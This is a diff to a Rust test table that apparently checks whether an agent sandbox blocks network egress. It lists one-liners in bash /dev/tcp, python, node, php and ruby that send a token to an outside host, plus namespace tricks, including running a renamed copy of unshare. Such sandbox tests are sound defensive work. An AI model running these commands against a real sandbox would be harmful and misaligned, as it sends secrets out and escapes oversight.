@@ -30,8 +30,7 @@ const ATTEMPTS: &[Attempt] = &[
     reach("connect by io_uring", r#"reach_by uring "$TO" "$PORT" "$TOKEN""#).with(PROGRAM).shut("io_uring is closed"),
     reach("a raw socket", r#"reach_by raw "$TO" "$PORT" "$TOKEN""#)
         .with(PROGRAM)
-        .capable("net_raw")
-        .open(gap::RAW_SOCKETS),
+        .capable("net_raw").shut("the agent is given no capability"),
     reach("bash /dev/tcp", r#"bash -c 'exec 3<>"/dev/tcp/$TO/$PORT"; echo "$TOKEN" >&3; read -r _ <&3'"#),
     reach("bash /dev/udp", r#"bash -c 'echo "$TOKEN" >"/dev/udp/$TO/$PORT"'"#),
     reach("python", r#"python3 -c 'import os, socket; s = socket.create_connection((os.environ["TO"], 7700)); s.send(os.environ["TOKEN"].encode()); s.recv(9)'"#),
@@ -48,10 +47,10 @@ const ATTEMPTS: &[Attempt] = &[
     reach("node", r#"node -e 'const s = require("net").connect(+process.env.PORT, process.env.TO, () => s.write(process.env.TOKEN)); s.on("data", () => s.end())'"#).needs(&["node"]),
     reach("php", r#"php -r '$s = fsockopen(getenv("TO"), getenv("PORT")); fwrite($s, getenv("TOKEN")); fgets($s);'"#).needs(&["php"]),
     reach("ruby", r#"ruby -rsocket -e 's = TCPSocket.new(ENV["TO"], ENV["PORT"]); s.write ENV["TOKEN"]; s.readpartial 9'"#).needs(&["ruby"]),
-    reach("in a user namespace", r#"unshare -r reach_by tcp "$TO" "$PORT" "$TOKEN""#).with(PROGRAM),
-    reach("in a mount namespace", r#"unshare -rm reach_by tcp "$TO" "$PORT" "$TOKEN""#).with(PROGRAM),
-    reach("in a cgroup namespace", r#"unshare -rC reach_by tcp "$TO" "$PORT" "$TOKEN""#).with(PROGRAM),
-    reach("in a process namespace", r#"unshare -rpf reach_by tcp "$TO" "$PORT" "$TOKEN""#).with(PROGRAM),
+    reach("in a user namespace", r#"cp /usr/bin/unshare u; ./u -r reach_by tcp "$TO" "$PORT" "$TOKEN""#).with(PROGRAM),
+    reach("in a mount namespace", r#"cp /usr/bin/unshare u; ./u -rm reach_by tcp "$TO" "$PORT" "$TOKEN""#).with(PROGRAM).shut("mounts are closed"),
+    reach("in a cgroup namespace", r#"cp /usr/bin/unshare u; ./u -rC reach_by tcp "$TO" "$PORT" "$TOKEN""#).with(PROGRAM),
+    reach("in a process namespace", r#"cp /usr/bin/unshare u; ./u -rpf reach_by tcp "$TO" "$PORT" "$TOKEN""#).with(PROGRAM),
     reach("a Unix socket", r#"reach_by tcp "$SOCKET" 0 "$TOKEN""#).with(PROGRAM).open(gap::UNIX_SOCKETS),
     reach("an abstract Unix socket", r#"reach_by tcp "@$ABSTRACT" 0 "$TOKEN""#).with(PROGRAM).open(gap::UNIX_SOCKETS),
     reach("Unix datagrams, connected", r#"reach_by connect "$DATAGRAMS" 0 "$TOKEN""#).with(PROGRAM).open(gap::UNIX_SOCKETS),
